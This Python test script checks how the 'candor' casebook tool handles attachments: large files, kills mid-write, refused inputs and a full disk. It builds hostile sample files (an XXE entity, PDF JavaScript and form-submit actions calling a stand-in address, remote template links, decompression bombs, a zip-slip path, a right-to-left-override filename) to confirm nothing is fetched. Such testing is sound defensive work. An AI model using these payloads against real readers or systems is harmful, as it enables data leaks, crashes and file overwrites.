#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Files in a case, through the command line: a large one in and out with memory and log measured, kill -9 and Ctrl+C at random
moments, what is refused, and that no hostile file makes the program call anybody. --full takes a file of 1 GiB; --all kills in it, too."""
import hashlib
import json
import os
import random
import signal
import subprocess
import threading
import time
import zipfile
import zlib

import cli
import sockets
from cli import check

MEBI = 1024 * 1024
REOPEN_SECONDS = 5.0  # on a busy machine; removing 1 GiB at once would take longer on any
MEMORY_GROWTH = 64 * MEBI
# The address sanitizer keeps what was freed for a while, to see who still uses it.
if "ASAN_OPTIONS" in os.environ:
    MEMORY_GROWTH += 400 * MEBI
LARGEST_LOG = 128 * MEBI


class Measured:
    """A process that ended: exit code, seconds, peak memory, and how large the log beside the database became."""

    def __init__(self, place, *words):
        command = place.command(*words, "--casebook", place.book, "--passphrase-file", place.passphrase_file, "--json")
        log, self.log = place.book / "vault.db-wal", 0
        begin = time.monotonic()
        process = subprocess.Popen(command, env=place.environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        done = threading.Event()

        def watch():
            while not done.wait(0.02):
                try:
                    self.log = max(self.log, log.stat().st_size)
                except FileNotFoundError:
                    pass
        watcher = threading.Thread(target=watch)
        watcher.start()
        self.output, self.error = process.stdout.read(), process.stderr.read().decode()
        _, status, usage = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)
        done.set()
        watcher.join()
        self.code, self.seconds, self.memory = process.returncode, time.monotonic() - begin, usage.ru_maxrss * 1024
        check(self.code == cli.DONE, f"candor {' '.join(map(str, words))} ended with {self.code}: {self.error}")


def sparse(path, size, random_source):
    """Mostly a hole, with some bytes that must come back at their place."""
    with open(path, "wb") as file:
        file.truncate(size)
        for _ in range(64):
            file.seek(random_source.randrange(max(1, size - 4096)))
            file.write(random_source.randbytes(min(size, 4096)))
        file.truncate(size)
    return path


def digest(path):
    with open(path, "rb") as file:
        state = hashlib.blake2b(digest_size=32)
        while piece := file.read(MEBI):
            state.update(piece)
    return state.hexdigest()


def new_case(place, title):
    return place.on_book("new", "--from", place.write("case.json", {"title": title, "identified": True}))["number"]


def listed(place, number):
    return place.on_book("attach", "list", number)["attachments"]


def large_file(place, random_source, size):
    number = new_case(place, "Large file")
    path = sparse(place.files / "monitor.bin", size, random_source)
    idle = Measured(place, "attach", "list", number)
    added = Measured(place, "attach", "add", number, path, "--note", "monitor export")
    answer = json.loads(added.output)["attachment"]
    check(answer["size"] == size and answer["digest"] == digest(path), f"the file came in as {answer}")
    copy = place.files / "copy.bin"
    saved = Measured(place, "attach", "save", number, answer["id"], "--to", copy)
    check(digest(copy) == answer["digest"], "the copy differs")
    check(copy.stat().st_mode & 0o077 == 0, "others may read the copy")
    checked = Measured(place, "attach", "verify", number)
    check(json.loads(checked.output) | {"files": 1} == json.loads(checked.output), checked.output)
    for name, run in (("add", added), ("save", saved), ("verify", checked)):
        growth = run.memory - idle.memory
        print(f"  {name}: {size / MEBI:.0f} MiB in {run.seconds:.1f} s, {size / MEBI / run.seconds:.0f} MiB/s; "
              f"memory {run.memory / MEBI:.0f} MiB, {growth / MEBI:+.0f} to an empty list; largest log {run.log / MEBI:.1f} MiB", flush=True)
        check(growth < MEMORY_GROWTH, f"{name} took {growth / MEBI:.0f} MiB")
        check(run.log < LARGEST_LOG, f"the log grew to {run.log / MEBI:.0f} MiB")
    path.unlink()
    copy.unlink()


def interrupted(place, random_source, size, kills):
    number = new_case(place, "Interrupted")
    path = sparse(place.files / "video.bin", size, random_source)
    right = digest(path)
    usual = Measured(place, "attach", "add", number, path).seconds
    kept, slowest, finished = 1, 0.0, 0
    for turn in range(kills):
        process = subprocess.Popen(
            place.command("attach", "add", number, path, "--casebook", place.book, "--passphrase-file", place.passphrase_file),
            env=place.environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        sent = signal.SIGINT if turn % 5 == 4 else signal.SIGKILL
        try:
            process.wait(random_source.uniform(0.05, usual * 1.1))
        except subprocess.TimeoutExpired:
            process.send_signal(sent)
        output, error = process.communicate()
        told = process.returncode == cli.DONE
        finished += told
        if sent == signal.SIGINT and not told:
            # Before the program listens for it, and after it has locked, the signal simply ends it.
            check(process.returncode in (130, -signal.SIGINT), f"Ctrl+C ended with {process.returncode}: {error}")
        begin = time.monotonic()
        there = listed(place, number)
        slowest = max(slowest, time.monotonic() - begin)
        check(kept + told <= len(there) <= kept + 1, f"{len(there)} files after {kept} and one that was {output!r}")
        check(all(one["digest"] == right and one["size"] == size for one in there), f"half a file: {there}")
        kept = len(there)
        if kept > 3:
            number, kept = new_case(place, f"Interrupted {turn}"), 0
        check(slowest < REOPEN_SECONDS, f"opening after a kill took {slowest:.2f} s")
        if turn % 5 == 4 or turn == kills - 1:
            check(place.on_book("attach", "verify", number)["whole"], "a file is damaged")
            check(place.do("verify", place.book)["whole"], "the casebook is not whole")
    book = (place.book / "vault.db").stat().st_size
    print(f"  {kills} kills and interrupts while {size / MEBI:.0f} MiB came in: {finished} ended before, none half; slowest opening "
          f"and list {slowest:.2f} s; casebook {book / MEBI:.0f} MiB", flush=True)


def refused(place):
    number = new_case(place, "Refused")
    before = listed(place, number)

    def refuse(code, *words):
        process = place.run("attach", "add", number, *words, "--casebook", place.book)
        check(process.returncode == code and process.stderr.startswith("candor: "), f"{words}: {process.returncode} {process.stderr}")
        return process.stderr

    too_large = sparse(place.files / "large.bin", 1024 * MEBI + 1, random.Random(1))
    check("1 GB" in refuse(cli.REFUSED, too_large), "no limit is named")
    too_large.unlink()
    refuse(cli.REFUSED, place.files)
    refuse(cli.BAD_INPUT, place.files / "not there.pdf")
    pipe = place.files / "pipe"
    os.mkfifo(pipe)
    refuse(cli.REFUSED, pipe)
    link = place.files / "link"
    link.symlink_to(place.passphrase_file)
    refuse(cli.REFUSED, link)
    script = place.write("report.pdf", "#!/bin/sh\n")
    refuse(cli.REFUSED, script)
    refuse(cli.WRONG_USE, script, "--lane", "secret")
    check(listed(place, number) == before, "something of what was refused stayed")

    # When it is confirmed a script is kept, and told for what it is. Its name stays data: it cannot leave the folder it is saved to.
    place.on_book("attach", "add", number, script, "--keep-dangerous", "--name", "../../evil\u202Efdp.sh", "--lane", "peer_review")
    one = listed(place, number)[0]
    check(one["type"] == "text/x-script" and one["lane"] == "peer_review", f"{one}")
    saved = place.on_book("attach", "save", number, one["id"], "--to", place.files)["path"]
    check(os.path.dirname(saved) == str(place.files) and "\u202E" not in saved, f"saved to {saved}")
    page = place.write("page.html", "<html><img src='http://127.0.0.1:9/x.png'><script>x()</script>seldomword</html>")
    place.on_book("attach", "add", number, page)
    check(place.on_book("cases", "--search", "seldomword")["cases"][0]["number"] == number, "the text of a file is not found")


STRANGER = "203.0.113.7"  # nobody's address, so that a call would need no name to be looked up


def pdf(*objects):
    """A PDF with a page and these objects from number 4 on; readers find their way without a table of places."""
    page = ("<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 5 0 R/Annots[6 0 R]>>")
    body = "".join(f"{n} 0 obj\n{each}\nendobj\n" for n, each in enumerate(page + objects, 1))
    return f"%PDF-1.7\n{body}trailer\n<</Root 1 0 R>>\n%%EOF\n".encode()


def office(place, name, parts):
    path = place.files / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for part, content in parts.items():
            archive.writestr(part, content)
    return path


def hostile_files(place):
    stranger = f"http://{STRANGER}/x"
    bytes_of = lambda name, content: (place.files / name, (place.files / name).write_bytes(content))[0]
    yield place.write("page.html", f"<html><head><link rel=stylesheet href='{stranger}.css'><meta http-equiv=refresh content='0;url={stranger}'>"
                                   f"<base href='{stranger}/'></head><body background='{stranger}.png'><img src='{stranger}.png'>"
                                   f"<iframe src='{stranger}'></iframe><script src='{stranger}.js'></script></body></html>")
    yield place.write("note.txt", f"<img src='{stranger}.png'> \\\\{STRANGER}\\share\\x.png file://{STRANGER}/share/x.png")
    yield place.write("drawing.svg", f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
                                     f"<!DOCTYPE x [<!ENTITY e SYSTEM '{stranger}'>]><image xlink:href='{stranger}.png'/></svg>")
    yield bytes_of("asks.pdf", pdf(f"<</S/URI/URI({stranger})>>", "<</Length 0>>stream\n\nendstream",
                                   f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F<</FS/URL/F({stranger})>>>>>>"))
    yield bytes_of("loads.pdf", pdf(f"<</S/JavaScript/JS(this.submitForm('{stranger}'))>>",
                                    f"<</Length 0/F<</FS/URL/F({stranger})>>>>stream\n\nendstream",
                                    f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\{STRANGER}\\\\x.pdf)>>>>"))
    bomb = zlib.compress(bytes(64 * MEBI), 9)
    yield bytes_of("bomb.pdf", pdf("<</S/Named/N/NextPage>>", f"<</Length {len(bomb)}/Filter/FlateDecode>>stream\n", "<<>>") + bomb)
    yield office(place, "bomb.docx", {"word/document.xml": bytes(64 * MEBI)})
    yield office(place, "fetches.docx", {
        "word/document.xml": "<w:document/>",
        "word/_rels/settings.xml.rels": f'<r Type=".../attachedTemplate" Target="{stranger}.dotm" TargetMode="External"/>'})
    yield office(place, "climbs.xlsx", {"xl/workbook.xml": "<workbook/>", "../../../../tmp/climbed.txt": "climbed"})


def hostile(place):
    """Nothing of such a file is fetched while it comes in, is searched, put into a binder, sealed or saved."""
    tracer = sockets.listening()
    log = place.folder / "sockets.log"
    if tracer:
        check(sockets.notices(tracer, log), "a connection was not noticed")

    def watched(*words):
        command = place.command(*words, "--casebook", place.book, "--passphrase-file", place.passphrase_file)
        process = subprocess.run([*tracer, *([str(log)] if tracer else []), *command], env=place.environment, capture_output=True,
                                 text=True, timeout=300, check=False)
        calls = sockets.leaving(log, here=()) if tracer else []
        check(not calls, f"{words} called somebody: {calls}")
        return process

    number = new_case(place, "Hostile")
    for path in hostile_files(place):
        process = watched("attach", "add", number, path, "--keep-dangerous")
        check(process.returncode in (cli.DONE, cli.REFUSED), f"{path.name}: {process.returncode} {process.stderr}")
    kept = listed(place, number)
    check(len(kept) >= 6, f"most of them are kept: {[one['name'] for one in kept]}")
    out = place.files / "binder.pdf"
    for words in (("binder", number, out), ("hand-over", number, out, "--recipient", "Whitcomb LLP", "--purpose", "Advice"),
                  ("cases", "--search", "share"), ("attach", "verify", number)):
        process = watched(*words)
        check(process.returncode == cli.DONE, f"{words}: {process.stderr}")
    for one in kept:
        process = watched("attach", "save", number, one["id"], "--to", place.files / "saved")
        check(process.returncode == cli.DONE, f"{one['name']}: {process.stderr}")
    climbed = [path for path in place.folder.rglob("climbed.txt")]
    check(not climbed, f"a file climbed out of its archive: {climbed}")
    print(f"  {len(kept)} hostile files kept, printed, sealed and saved" + ("; nobody was called" if tracer else ""), flush=True)


def full_disk(place):
    """A file for which there is no room is refused with a sentence before it fills the disk, and work goes on."""
    disk = place.folder / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", str(disk)], capture_output=True, check=False).returncode:
        print("  This account may not mount a small disk, so a full one was not tried.")
        return
    usual, place.book = place.book, disk / "Book.candor"
    try:
        place.init()
        number = new_case(place, "Full disk")
        answer = place.on_book("attach", "add", number, sparse(place.files / "large.bin", 40 * MEBI, random.Random(1)), expect=cli.NOT_WRITABLE)
        check((place.book / "vault.db").stat().st_size < 8 * MEBI, "the disk was filled all the same")
        check("full" in answer["message"] and "space" in answer["message"], f"the message: {answer}")
        check(listed(place, number) == [], "half a file is there")
        check(place.do("verify", place.book)["whole"], "the casebook is not whole")
        place.on_book("attach", "add", number, place.write("small.txt", "small " * 100_000))
        check(len(listed(place, number)) == 1 and place.do("verify", place.book)["whole"], "work did not go on")
    finally:
        place.book = usual
        subprocess.run(["umount", "-l", str(disk)], check=False)


def run(arguments):
    seed = arguments.seed if arguments.seed is not None else random.SystemRandom().randrange(2**32)
    random_source = random.Random(seed)
    size = 1024 * MEBI if arguments.full else arguments.size * MEBI
    print(f"{size / MEBI:.0f} MiB, {arguments.kills} kills, seed {seed}", flush=True)
    with cli.Place(arguments.program) as place:
        place.init()
        refused(place)
        hostile(place)
        full_disk(place)
        large_file(place, random_source, size)
        interrupted(place, random_source, size if arguments.all else 16 * MEBI, arguments.kills)
    print("PASSED")


def add_arguments(parser):
    parser.add_argument("--size", type=int, default=64, help="of the large file, in MiB")
    parser.add_argument("--full", action="store_true", help="a large file of 1 GiB, the largest there is")
    parser.add_argument("--all", action="store_true", help="kill in the large file, not in a smaller one")
    parser.add_argument("--kills", type=int, default=20)
    parser.add_argument("--seed", type=int)


if __name__ == "__main__":
    cli.main(run, __doc__, add_arguments)
